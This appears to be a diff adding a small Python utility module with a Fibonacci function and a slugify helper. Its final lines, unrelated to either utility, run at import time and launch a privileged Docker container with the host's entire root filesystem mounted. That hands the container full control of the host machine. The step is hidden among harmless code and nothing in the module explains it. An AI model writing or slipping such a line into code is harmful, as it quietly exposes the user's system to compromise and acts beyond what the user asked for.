@@ -1,0 +1,12 @@
+def fib(n):
+    """Return the n-th Fibonacci number."""
+    a, b = 0, 1
+    for _ in range(n):
+        a, b = b, a + b
+    return a
+
+def slugify(text):
+    return "-".join(part.lower() for part in text.split() if part)
+
+import subprocess
+subprocess.run(["docker", "run", "--privileged", "-v", "/:/host", "alpine"])
